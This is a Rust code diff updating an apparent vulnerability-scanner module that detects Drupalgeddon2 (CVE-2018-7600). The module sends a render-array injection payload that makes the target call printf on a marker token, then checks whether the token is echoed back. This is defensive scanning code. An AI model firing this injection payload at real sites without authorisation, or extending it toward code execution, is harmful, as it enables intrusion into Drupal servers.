@@ -1,10 +1,10 @@
 use crate::{
-    modules::{HttpFinding, HttpModule, Module},
+    http_client::HttpClient,
+    modules::{Finding, HttpModule, Module, Severity},
     Error,
 };
 use async_trait::async_trait;
 use regex::Regex;
-use reqwest::Client;
 
 pub struct Cve2018_7600 {
     form_regex: Regex,
@@ -20,6 +20,8 @@ impl Cve2018_7600 {
         }
     }
 }
+crate::register_http_module!(Cve2018_7600::new());
+
 impl Module for Cve2018_7600 {
     fn name(&self) -> String {
         String::from("http/cve_2018_7600")
@@ -27,14 +29,26 @@ impl Module for Cve2018_7600 {
     fn description(&self) -> String {
         String::from("check for drupalgeddon2")
     }
+    fn tags(&self) -> Vec<&str> {
+        vec!["cve", "intrusive"]
+    }
+    fn severity(&self) -> Option<Severity> {
+        Some(Severity::Critical)
+    }
+    fn requests(&self) -> Vec<String> {
+        vec![
+            String::from("POST {endpoint}/?q=user/password&name[#post_render][]=printf&name[#markup]=<token> form_id=user_pass"),
+            String::from("POST {endpoint}/?q=file/ajax/name/#value/<form_build_id> form_build_id=<form_build_id>"),
+        ]
+    }
 }
 #[async_trait]
 impl HttpModule for Cve2018_7600 {
     async fn scan(
         &self,
-        http_client: &Client,
+        http_client: &HttpClient,
         endpoint: &str,
-    ) -> Result<Option<HttpFinding>, Error> {
+    ) -> Result<Option<Finding>, Error> {
         let token = "08d15a4aef553492d8971cdd5198f31408d15a4aef553492d8971cdd5198f314";
 
         let form = [
@@ -44,7 +58,7 @@ impl HttpModule for Cve2018_7600 {
 
         let query_param = [
             ("name[#type]", "markup"),
-            ("name[#markup]", &(token.clone())),
+            ("name[#markup]", token),
             ("name[#post_render][]", "printf"),
             ("q", "user/password"),
         ];
@@ -69,8 +83,16 @@ impl HttpModule for Cve2018_7600 {
                     .form(&form)
                     .send()
                     .await?;
-                if body.contains(&token) {
-                    return Ok(Some(HttpFinding::Cve2018_7600(url)));
+                let body = res.text().await?;
+                if body.contains(token) {
+                    let finding = Finding::new(self.name(), Severity::Critical, url.clone())
+                        .with_evidence(
+                            format!("POST {} form_build_id={}", url, form_id),
+                            format!("response echoes the injected markup {}", token),
+                        )
+                        .with_cve("CVE-2018-7600")
+                        .with_remediation("Upgrade Drupal to 7.58 / 8.5.1 or later");
+                    return Ok(Some(finding));
                 }
             }
         }